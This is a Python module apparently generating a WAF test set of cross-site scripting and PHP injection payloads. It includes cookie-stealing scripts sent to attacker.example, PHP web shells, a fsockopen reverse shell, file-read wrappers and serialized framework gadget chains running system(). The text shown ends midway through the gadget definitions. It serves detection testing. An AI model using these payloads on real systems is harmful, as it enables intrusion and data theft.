"""Blind set "hundredfiftysecond": cross-site scripting and PHP injection written the way disclosed bug-bounty
reports show them, with benign requests that carry the same words innocently.

The angle: the proof of concept a hunter pastes into a real web application and later quotes in a publicly
disclosed report (HackerOne / Bugcrowd / vendor advisory style, recalled from memory, never looked up): a search
box, a profile field, a redirect or callback parameter, a webhook or import URL, an avatar or attachment name, a
JSON API body, a header that an admin log viewer renders. The payloads are short and practical, often wrapped in
the application's context (a value that closes the app's quote or tag, a field that already holds a legitimate
prefix such as an e-mail, a date or a name, then the payload) and often the second try after a first filter
(other case, other encoding, another function or sink). Each payload names its real target in the comment above
its list (the browser's HTML parser, a JavaScript sink, a client template engine, the PHP interpreter, a PHP
stream wrapper, unserialize(), php-cgi, the upload handler).

Families (one `sub` each):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction),
    javascript-uri, html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-vectors, encoded-entity-vectors, client-template-injection
    (AngularJS, Vue, Alpine, Knockout, Polymer)
  php: php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/
    create_function/preg_replace /e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://,
    zip://, glob://, compress.*://), php-object-injection (serialized O:/a:/C:, built here with correct lengths),
    php-config-directives (auto_prepend_file, allow_url_include, php-cgi -d, .user.ini, .htaccess, PHP_VALUE),
    php-superglobals, php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Forwarded-Host, a parameter name, an XML
body, a multipart field, the URL path; upload names as the multipart filename of /admin/users/import), once the
way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php,
/get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id,
arg1), as a query string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a
custom header or a cookie. php-cgi argument injections (`-d ...`) go as the bare query string, `=` encoded and
spaces as `+`; .user.ini and register_globals style payloads that are themselves `name=value` go unquoted where
they name the place. Payloads with bytes above 0x7f that are not UTF-8 on the wire (php-cgi's soft
hyphen, inverted-string function names) go percent-encoded as Latin-1 in query and form carriers only.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Serialized PHP objects are built here by a small serializer so that every length is right. Measured once on
unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Iterator, Sequence
from typing import Any, NamedTuple

from .blind_placements import CONTROLS_BUT_NUL, BlindSet, Cycles, Put, Record, request
from .family_gen import _get
from .records import print_records

NAME = "hundredfiftysecond"


# ----------------------------------------------------------------------------------------------------------------
# Small builders: base64, raw deflate, PHP's serialize() format
def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _deflate_b64(text: str) -> str:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(comp.compress(text.encode()) + comp.flush()).decode()


class Obj(NamedTuple):
    cls: str
    props: list[tuple[str, Any]]


class Custom(NamedTuple):
    """A class serialized with C: (Serializable / ArrayObject-style payload)."""
    cls: str
    data: str


def _prot(name: str) -> str:
    return "\0*\0" + name


def _priv(cls: str, name: str) -> str:
    return "\0" + cls + "\0" + name


def _ser(v: Any) -> str:
    if isinstance(v, Obj):
        body = "".join(_ser(k) + _ser(x) for k, x in v.props)
        return f'O:{len(v.cls)}:"{v.cls}":{len(v.props)}:{{{body}}}'
    if isinstance(v, Custom):
        return f'C:{len(v.cls)}:"{v.cls}":{len(v.data.encode())}:{{{v.data}}}'
    if v is None:
        return "N;"
    if isinstance(v, bool):
        return f"b:{int(v)};"
    if isinstance(v, int):
        return f"i:{v};"
    if isinstance(v, str):
        return f's:{len(v.encode())}:"{v}";'
    pairs = list(enumerate(v)) if isinstance(v, list) else list(v.items())
    return f"a:{len(pairs)}:{{" + "".join(_ser(k) + _ser(x) for k, x in pairs) + "}"


def _array_object(cls: str, storage: Any, members: dict[str, Any]) -> Custom:
    return Custom(cls, "x:i:0;" + _ser(storage) + ";m:" + _ser(members))


# ================================================================================================================
# XSS. Target: the victim's browser (HTML parser, JavaScript engine, CSS engine, client template engines).
# ================================================================================================================

# libinjection-xss. Target: the browser's HTML tokenizer; the classic first PoC a hunter pastes into a search
# box, a profile field or a reflected error message, often closing the app's attribute, tag or element first.
XSS_LIBINJECTION = [
    '"><img src=x onerror=alert(document.domain)>',
    "'><svg onload=confirm(document.cookie)>",
    "</textarea><img src=x onerror=prompt(1)>",
    "</title><script>alert(document.domain)</script>",
    "<img src=1 onerror=alert(origin)>",
    'jane.doe@example.com"><img src=x onerror=alert(1)>',
    '"><iframe src=javascript:alert(document.domain)>',
    "<details open ontoggle=alert(document.domain)>",
    "<body onload=alert('XSS')>",
    '"><input autofocus onfocus=alert(1)>',
    '<a href="javascript:alert(document.cookie)">Click me</a>',
    '"onmouseover="alert(document.domain)',
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(document.domain)>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "2024-05-01\"><img/src/onerror=alert(1)>",
    '<div onpointerover="alert(1)">hover me</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "Acme Corp</span><img src=x onerror=alert(document.domain)>",
    "\"><img src=x onerror=alert(localStorage.getItem('token'))>",
]

# script-tag. Target: the browser's script element (reflected and stored XSS; external script loaders such as
# blind-XSS callbacks in admin panels and support desks).
XSS_SCRIPT = [
    "<script>alert(document.domain)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '"><script src=https://hunter.xss.example/c></script>',
    '<script src="https://attacker.example/x.js"></script>',
    "\"><script>fetch('//attacker.example/?c='+document.cookie)</script>",
    "<script>new Image().src='https://attacker.example/log?c='+encodeURIComponent(document.cookie)</script>",
    "<script>alert`1`</script>",
    "<script/src=data:,alert(1)></script>",
    "<script>eval(atob('" + _b64("alert(document.domain)") + "'))</script>",
    "<script x>alert(1)</script y>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)//",
    "<script>document.location='https://attacker.example/steal?c='+document.cookie</script>",
    "<script>$.getScript('//attacker.example/p.js')</script>",
    "<SCRIPT SRC=//attacker.example/.j></SCRIPT>",
    "<script>import('//attacker.example/m.js')</script>",
    "<script>window.onerror=alert;throw 1</script>",
    "<script>top['al'+'ert'](document.domain)</script>",
    "<script>setTimeout('alert(document.domain)',0)</script>",
    "<script\ttype=\"text/javascript\">alert(1)</script>",
    "Bob Smith<script>alert(document.domain)</script>",
]

# event-handler. Target: the browser's inline event handlers (on* attributes) on tags the app's filter lets
# through; second tries swap the tag, the event or the case after <script> was stripped.
XSS_EVENT = [
    "<svg/onload=alert(document.domain)>",
    "<body onpageshow=alert(1)>",
    "<input onfocus=alert(document.domain) autofocus>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<audio src=x onerror=alert(document.cookie)>",
    "<video src=x onerror=alert(1)>",
    "<iframe onload=alert(document.domain)>",
    "<img src=x onerror=\"fetch('https://attacker.example/'+document.cookie)\">",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onhashchange=alert(1)><a href=#x>click</a>",
    "<a onclick=alert(1)>click</a>",
    "<input type=image src=x onerror=alert(1)>",
    "<body onresize=alert(1)>",
    "<bodY onbeforeprint=alert(1)>",
    "\" autofocus onfocus=alert(document.domain) x=\"",
    "' onmouseover='alert(1)",
    "<img src=/ onerror=alert(1)//",
    "<img src=x onerror=window.location='https://attacker.example/?'+document.cookie>",
]

# attribute-vector. Target: the browser's URL-bearing and style attributes (src, href, data, formaction, action,
# srcdoc, style, poster, background) where the value is the attacker's.
XSS_ATTRIBUTE = [
    "<form><button formaction=javascript:alert(1)>Submit</button></form>",
    "<input type=submit formaction=javascript:alert(document.domain) value=Go>",
    '<iframe src="javascript:alert(document.cookie)"></iframe>',
    "<embed src=javascript:alert(1)>",
    '<div style="background-image:url(javascript:alert(1))">',
    '<iframe srcdoc="<script>alert(parent.document.domain)</script>">',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
    '<object data="data:text/html;base64,' + _b64("<script>alert(1)</script>") + '"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<a href="data:text/html;base64,' + _b64("<script>alert(document.domain)</script>") + '">tap</a>',
    "<isindex action=javascript:alert(1) type=image>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<input type=image src=javascript:alert(1)>",
    "<iframe src=data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>",
    "<button form=x formaction=javascript:alert(1)>",
    "<video poster=javascript:alert(1)//></video>",
    '"style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="alert(1)',
    '<a href="#" style="display:block;position:fixed;inset:0" onclick="alert(document.domain)">',
]

# javascript-uri. Target: the browser navigating to a javascript: URL taken from a redirect, next, returnUrl,
# website or callback parameter (open-redirect-to-XSS reports).
XSS_JS_URI = [
    "javascript:alert(document.domain)",
    "javascript:alert(1)//https://example.com",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(document.cookie)",
    "javascript://example.com/%0Aalert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript:fetch('//attacker.example/'+document.cookie)",
    "javascript:eval(atob(location.hash.slice(1)))",
    "javascript:window.opener.location='https://attacker.example/phish'",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "javascript:%61lert(1)",
    "javascript:alert%281%29",
    "javascript:confirm(1)",
    "javascript:top.location.href='//attacker.example'",
    "javascript:new Image().src='//attacker.example/?'+localStorage.token",
    "javascript:document.write('<script src=//attacker.example/a.js></script>')",
    "https://example.com/login?next=javascript:alert(document.domain)",
    "javascript:alert(document.domain)//?returnTo=/dashboard",
    "javascript:prompt(document.cookie)",
    "javascript:''.constructor.constructor('alert(1)')()",
]

# html-injection. Target: the browser's HTML parser rendering attacker markup (iframe/object/embed/base/meta/
# link/form): phishing forms, redirects, dangling markup and DOM clobbering in e-mails, comments and profiles.
XSS_HTML = [
    "<iframe src=https://attacker.example/phish width=100% height=600>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://attacker.example/">',
    '<base href="https://attacker.example/">',
    '<form action="https://attacker.example/login" method=post><input name=password type=password '
    'placeholder="Re-enter password"><input type=submit value=Login></form>',
    '<object data="https://attacker.example/x.html" type="text/html"></object>',
    '<embed src="https://attacker.example/x.svg" type="image/svg+xml">',
    "<link rel=import href=https://attacker.example/x.html>",
    '<link rel="stylesheet" href="https://attacker.example/leak.css">',
    '"><iframe src="//attacker.example/phish.html" style="position:fixed;top:0;left:0;width:100%;'
    'height:100%;border:0">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<applet code="Exploit.class" codebase="//attacker.example/">',
    '<img src="https://attacker.example/pixel?leak=',
    '<meta http-equiv="set-cookie" content="session=attacker">',
    "<a id=defaultConfig><a id=defaultConfig name=scriptSrc href=//attacker.example/x.js>",
    "<portal src=https://attacker.example/>",
    "<object data=javascript:alert(document.domain)>",
    '<form id=test></form><button form=test formaction="https://attacker.example/collect">Continue</button>',
    "<h1>Account suspended</h1><a href=//attacker.example>Restore access</a><!--",
    '<base target="<img src=x onerror=alert(1)>">',
]

# svg-mathml. Target: the browser's SVG and MathML parsers (inline SVG in rich text, uploaded SVG avatars,
# namespace confusion that gets past HTML sanitizers).
_SVG_USE = _b64("<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>")
XSS_SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(document.domain)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml;base64,' + _SVG_USE + '#x" /></svg>',
    "<svg><image href=x onerror=alert(1) />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
    "<math><a xlink:href=javascript:alert(1)>click</a></math>",
    "<svg><discard onbegin=alert(1)>",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    '<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg">'
    '<script type="text/javascript">alert(document.domain)</script></svg>',
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    "<svg width=100% height=100%><rect width=100% height=100% onmouseover=alert(1) />",
    '<math><mi xlink:href="data:x,<script>alert(4)</script>">',
    "<svg/onload=location='javas'+'cript:al'+'ert(1)'>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
]

# css-expression. Target: the browser's CSS engine (IE expression(), behavior/-moz-binding, url() with
# javascript:, attribute-selector exfiltration, breaking out of a style context in a theme colour field).
XSS_CSS = [
    '<div style="width: expression(alert(document.domain))">',
    '<p style="x:expression(alert(1))">',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<style>@import "javascript:alert(1)";</style>',
    '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</li></ul>',
    '<div style="behavior:url(//attacker.example/xss.htc)">',
    '<div style="-moz-binding:url(//attacker.example/xss.xml#x)">',
    "<style>input[name=csrf_token][value^=a]{background:url(//attacker.example/leak?a)}</style>",
    "red;}</style><script>alert(1)</script>",
    '#fff" style="x:expression(alert(1))',
    "<style>*{x:expression(alert(1))}</style>",
    '<xss style="xss:expr/*XSS*/ession(alert(1))">',
    '<img style="xss:\\65 xpression(alert(1))">',
    '<div style="background:url(&#1;javascript:alert(1))">',
    '<link rel=stylesheet href="data:text/css,body{background:url(javascript:alert(1))}">',
    "<style>@import url(//attacker.example/exfil.css);</style>",
    '<div style="background-image: url(&quot;javascript:alert(1)&quot;)">',
    "</style><img src=x onerror=alert(document.domain)>",
    "x:expression(document.location='//attacker.example/?'+document.cookie)",
    "<style>body{-o-link:'javascript:alert(1)';-o-link-source:current}</style>",
    '<div style="x:e\\xpression(alert(1))">',
]

# template-literal-dom-sink. Target: the page's own JavaScript (values reflected into a script block, a JS
# string, a template literal, a JSONP callback, or read from location/postMessage into innerHTML/eval).
XSS_DOM = [
    "'-alert(document.domain)-'",
    "\";alert(document.domain);//",
    "\\';alert(1);//",
    "${alert(document.domain)}",
    "`-alert(1)-`",
    "#<img src=x onerror=alert(1)>",
    "');alert(document.cookie);//",
    "alert(document.domain)//",
    "eval(location.hash.slice(1))",
    "document.write('<img src=x onerror=alert(1)>')",
    "x'+alert(1)+'",
    "data:text/javascript,alert(1)",
    "setTimeout(atob('" + _b64("alert(1)") + "'))",
    "';window.location='//attacker.example/?c='+document.cookie;//",
    "\"}; alert(1); var x={\"a\":\"",
    "</script><svg onload=alert(1)>",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    '{"type":"render","html":"<img src=x onerror=alert(document.domain)>"}',
    "top[/al/.source+/ert/.source](1)",
    "Function('ale'+'rt(1)')()",
    "[].filter.constructor('alert(1)')()",
    "self['alert'](document.domain)",
]

# ie-filter-vectors. Target: Internet Explorer / legacy Edge and other old engines (vbscript:, behaviors, data
# islands, HTML+TIME, conditional comments, event/for scripts): the shapes the old IE XSS filter looked for.
XSS_IE = [
    'vbscript:msgbox("XSS")',
    '<a href="vbscript:MsgBox(document.domain)">x</a>',
    "<img src=\"vbscript:msgbox('xss')\">",
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    '<html xmlns:t="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2">'
    '<t:set attributeName="innerHTML" to="XSS<script defer>alert(1)</script>">',
    "<script event=onload for=window>alert(1)</script>",
    '<script language=vbscript>MsgBox "XSS"</script>',
    '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:alert(1)>'
    "</object>",
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">alert(1)</xss:script>',
    '<div style="xss:expression(alert(1))">',
    '<bgsound src="javascript:alert(1)">',
    '<layer src="https://attacker.example/x.js"></layer>',
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<img src=\"javascript:alert('XSS')\">",
    '<br size="&{alert(1)}">',
    '<meta http-equiv="X-UA-Compatible" content="IE=EmulateIE7"><div style="x:expression(alert(1))">',
    "<img src=javascript:alert(String.fromCharCode(88,83,83))>",
    '<iframe src="vbscript:alert(1)">',
]

# encoded-entity-vectors. Target: the browser after the app's decoding step (HTML entities in attributes,
# percent-encoding decoded twice, JS escapes, UTF-7, full-width forms normalised by the backend, overlong UTF-8).
XSS_ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    '<a href="' + "".join(f"&#{ord(c)};" for c in "javascript:alert(1)") + '">x</a>',
    '<a href="' + "".join(f"&#x{ord(c):X};" for c in "javascript:") + 'alert(1)">x</a>',
    '<img src=x onerror="' + "".join(f"&#x{ord(c):X};" for c in "alert") + '(1)">',
    "<img src=x onerror=\\u0061lert(1)>",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    "<svg><script>&#97;lert(1)</script></svg>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<iframe src="data:text/html;base64,' + _b64("<script>alert(document.domain)</script>") + '"></iframe>',
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg onload=alert(1)&#x3e;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "<img src=x onerror=location=atob('" + _b64("javascript:alert(1)") + "')>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "<img src=x onerror=&#97&#108&#101&#114&#116&#40&#49&#41>",
]

# client-template-injection. Target: client-side template engines compiling server-rendered text (AngularJS
# 1.x expression sandbox escapes, Vue 2/3 mustaches and directives, Alpine.js, Knockout, Polymer bindings).
XSS_CSTI = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "{{[].pop.constructor('alert(document.domain)')()}}",
    "<input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">",
    "{{$eval.constructor('alert(document.cookie)')()}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "<div id=app>{{constructor.constructor('alert(document.domain)')()}}</div>",
    "<p v-show=\"_c.constructor`alert(1)`()\">",
    "[[constructor.constructor('alert(1)')()]]",
    "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
    '<img src=x @error="alert(document.domain)">',
    "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>click</div></div>",
    "{{ $root.constructor.constructor('fetch(\"//attacker.example/?\"+document.cookie)')() }}",
    "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\"></div>",
    '<div x-data x-init="alert(document.domain)"></div>',
    "Maria {{constructor.constructor('alert(1)')()}} Lopez",
]

# ================================================================================================================
# PHP. Target: the PHP interpreter behind the app (eval()/assert() sinks, include/require, file writes that are
# later executed, unserialize(), php-cgi argument parsing, the upload handler).
# ================================================================================================================

# php-open-tag. Target: PHP files the app writes or includes (log poisoning, template/theme editors, uploaded
# "images", cache files, language packs): code opened with <?php, <?= or the old <script language="php">.
PHP_OPEN_TAG = [
    "<?php system($_GET['cmd']); ?>",
    '<?php echo shell_exec($_GET["c"]); ?>',
    "<?=system($_GET[0]);?>",
    "<?= phpinfo() ?>",
    "<?php phpinfo(); ?>",
    "<?php eval($_POST['x']);?>",
    "<? passthru($_REQUEST['c']); ?>",
    "<?php @eval(base64_decode($_POST['p'])); ?>",
    "<?php file_put_contents('s.php', '<?php system($_GET[1]);'); ?>",
    '<script language="php">system("id");</script>',
    "<?PHP echo `id`; ?>",
    "GIF89a<?php system($_GET['c']); ?>",
    "<?php echo file_get_contents('/etc/passwd'); ?>",
    '<?php $s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>',
    "<?php include($_GET['f']); ?>",
    "<?php readfile('../../wp-config.php'); ?>",
    "<?php print_r(scandir('.')); ?>",
    "<?php highlight_file('../config/database.php'); ?>",
    "<?php echo md5('h1-poc-2024'); ?>",
    "<?php echo 1337*1337; ?>",
    "john@example.com<?php system('id'); ?>",
    "<?php\nsystem('id');",
    "<?php /* poc */ echo getcwd(); ?>",
    "<?php copy('http://attacker.example/s.txt','s.php'); ?>",
    "<?=`$_GET[0]`?>",
    "<?php echo exec('whoami');",
]

# php-function-call. Target: the PHP interpreter through an eval()/assert()/create_function()/preg_replace /e
# sink or a string interpolated into PHP code (calculator fields, plugin "conditions", theme options).
_GZ_SHELL = _deflate_b64("system('id');")
PHP_FUNCTION_CALL = [
    "system('id')",
    'system("cat /etc/passwd");',
    "exec('whoami')",
    "passthru('uname -a');",
    "shell_exec('ls -la')",
    "popen('id', 'r')",
    "proc_open('id', [1 => ['pipe', 'w']], $p)",
    "assert('phpinfo()')",
    "eval('phpinfo();')",
    "create_function('', 'system(\"id\");')",
    "preg_replace('/.*/e', 'system(\"id\")', 'x')",
    'preg_replace("/a/e","phpinfo()","a")',
    "';system('id');//",
    "\".system('id').\"",
    "${system('id')}",
    "{${phpinfo()}}",
    "${@eval($_GET[1])}",
    "1);system('cat /etc/passwd');//",
    "phpinfo()",
    "call_user_func('system','id')",
    "call_user_func_array('passthru', array('id'))",
    "array_filter(['id'], 'system')",
    "pcntl_exec('/bin/sh', ['-c', 'id'])",
    "eval(gzinflate(base64_decode('" + _GZ_SHELL + "')));",
    "ob_start('system'); echo 'id'; ob_end_flush();",
    "register_shutdown_function('system','id');",
    "2+2;passthru('id')",
]

# php-variable-functions. Target: the PHP interpreter (an eval sink or a web shell upload), with the function
# name built at run time so that no risky name is written out: variable functions, string ops, XOR/NOT tricks.
PHP_VARIABLE_FUNCTIONS = [
    "$_GET['f']($_GET['a']);",
    "$a='sys'.'tem';$a('id');",
    "$f=strrev('metsys');$f('id');",
    "(\"sys\".\"tem\")(\"id\");",
    "('sy'.'stem')('whoami');",
    "$x=base64_decode('" + _b64("system") + "');$x('id');",
    '${"_GET"}[0](${"_GET"}[1]);',
    "$a='b';$$a='system';$b('id');",
    '${"`{{{"^"?<>/"}[_](${"`{{{"^"?<>/"}[__]);',
    "$f=$_COOKIE['f'];$f($_COOKIE['c']);",
    "(~" + "".join(chr(0xFF ^ ord(c)) for c in "system") + ")(~" + "".join(chr(0xFF ^ ord(c)) for c in "id")
    + ");",
    "$a=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$a('id');",
    "$x=implode('',['sy','st','em']);$x('id');",
    "$f=str_rot13('flfgrz');$f('id');",
    "$f=hex2bin('73797374656d');$f('id');",
    "@$_POST['x']($_POST['y']);",
    "$f=$_SERVER['HTTP_X_F'];$f($_SERVER['HTTP_X_C']);",
    "(new ReflectionFunction($_GET['f']))->invoke($_GET['c']);",
    "$func='passthru';$func('ls -la /var/www');",
    "${'_'.'POST'}['x'](${'_'.'POST'}['y']);",
    "$e='ex'.'ec';echo $e('id');",
    '$k="s\\x79stem";$k("id");',
    '"\\163\\171\\163\\164\\145\\155"(\'id\');',
    "('system')(getenv('HTTP_CMD'));",
    "$m=substr('xsystemx',1,6);$m('id');",
    "$_=\"assert\";$_(base64_decode($_POST['z']));",
]

# php-wrappers. Target: PHP's stream layer behind include/require, file_get_contents, fopen, copy or
# getimagesize on a user-supplied path or URL (template, page, lang, avatar URL, import URL, webhook URL).
_DATA_SHELL = _b64("<?php system($_GET['c']); ?>")
PHP_WRAPPERS = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=../wp-config.php",
    "php://filter/string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env",
    "PHP://FILTER/convert.base64-encode/resource=config",
    "php://input",
    "php://fd/3",
    "data://text/plain;base64," + _DATA_SHELL,
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id');?>",
    "data:;base64," + _b64("<?php phpinfo();?>"),
    "phar://./uploads/avatar.jpg/test.txt",
    "phar:///var/www/html/uploads/profile_12.png",
    "phar://../../storage/app/public/invoice.pdf/x",
    "expect://id",
    "expect://ls -la",
    "zip://uploads/shell.jpg#shell.php",
    "zip:///var/www/html/uploads/doc.zip#cmd",
    "compress.zlib://../../../../etc/passwd",
    "glob:///var/www/html/*",
    "glob://uploads/*.php",
    "php://filter/resource=http://attacker.example/shell.txt",
    "php://filter/write=convert.base64-decode/resource=shell.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp",
    "compress.bzip2://phar:///var/www/uploads/avatar.png",
    "php://filter/read=string.toupper|string.rot13|string.tolower/resource=admin.php",
    "rar://uploads/archive.rar#shell.php",
]

# php-object-injection. Target: unserialize() on a cookie, hidden field, API field or cache entry; public POP
# chains of the framework the app runs (Laravel, Monolog, Guzzle, WordPress core, Symfony, Yii2, Zend/Magento 1,
# Joomla 3, Drupal) and the textbook application gadgets (log writers, user objects with role flags).
_SHELL = "<?php system($_GET['c']); ?>"
_LARAVEL_FAKER = Obj("Illuminate\\Broadcasting\\PendingBroadcast", [
    (_prot("events"), Obj("Faker\\Generator", [(_prot("formatters"), {"dispatch": "system"})])),
    (_prot("event"), "id")])
_LARAVEL_DISPATCHER = Obj("Illuminate\\Broadcasting\\PendingBroadcast", [
    (_prot("events"), Obj("Illuminate\\Events\\Dispatcher", [(_prot("listeners"), {"id": ["system"]})])),
    (_prot("event"), "id")])
_MONOLOG = Obj("Monolog\\Handler\\SyslogUdpHandler", [(_prot("socket"), Obj("Monolog\\Handler\\BufferHandler", [
    (_prot("handler"), None), (_prot("bufferSize"), -1), (_prot("buffer"), [["id", "level"]]),
    (_prot("level"), None), (_prot("initialized"), True), (_prot("bufferLimit"), -1),
    (_prot("processors"), ["current", "system"])]))])
_JAR = "GuzzleHttp\\Cookie\\CookieJar"
_FJAR = "GuzzleHttp\\Cookie\\FileCookieJar"
_GUZZLE = Obj(_FJAR, [
    (_priv(_JAR, "cookies"), [Obj("GuzzleHttp\\Cookie\\SetCookie", [
        (_priv("GuzzleHttp\\Cookie\\SetCookie", "data"),
         {"Name": "x", "Value": _SHELL, "Domain": "x", "Expires": 1, "Discard": False})])]),
    (_priv(_JAR, "strictMode"), None), (_priv(_FJAR, "filename"), "/var/www/html/c.php"),
    (_priv(_FJAR, "storeSessionCookies"), True)])
_WP_ITER = _array_object("Requests_Utility_FilteredIterator", ["id"], {_prot("callback"): "system"})
_SYMFONY = Obj("Symfony\\Component\\Process\\Pipes\\WindowsPipes", [
    (_priv("Symfony\\Component\\Process\\Pipes\\WindowsPipes", "files"), ["/var/www/html/.htaccess"])])
_YII = Obj("yii\\db\\BatchQueryResult", [(_priv("yii\\db\\BatchQueryResult", "_dataReader"), Obj(
    "Faker\\Generator", [(_prot("formatters"), {"close": [
        Obj("yii\\rest\\CreateAction", [("checkAccess", "system"), ("id", "id")]), "run"]})]))])
_ZEND = Obj("Zend_Log", [(_prot("_writers"), [Obj("Zend_Log_Writer_Mail", [
    (_prot("_eventsToMail"), ["id"]), (_prot("_layoutEventsToMail"), []),
    (_prot("_layout"), Obj("Zend_Layout", [
        (_prot("_inflector"), Obj("Zend_Filter_PregReplace", [
            (_prot("_matchPattern"), "/(.*)/e"), (_prot("_replacement"), "system('id')")])),
        (_prot("_inflectorEnabled"), True), (_prot("_layout"), "layout")])),
    (_prot("_subjectPrependText"), None)])])])
